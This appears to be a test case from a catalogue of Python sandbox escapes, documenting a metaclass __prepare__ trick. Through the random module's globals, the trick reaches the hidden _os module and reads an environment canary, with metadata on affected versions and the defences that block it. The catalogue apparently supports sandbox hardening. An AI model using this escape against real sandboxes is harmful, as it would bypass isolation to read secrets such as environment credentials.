# id: metaclass-prepare-namespace
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: __prepare__ supplies the namespace of a class body, so plain names in it are answered by a trusted module's globals
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random


class Namespace(dict):
    __missing__ = random.seed.__func__.__globals__.__getitem__


class Meta(type):
    @classmethod
    def __prepare__(cls, name, bases):
        return Namespace(print=print)


class Body(metaclass=Meta):
    print(_os.environ["PADCELL_CANARY"])
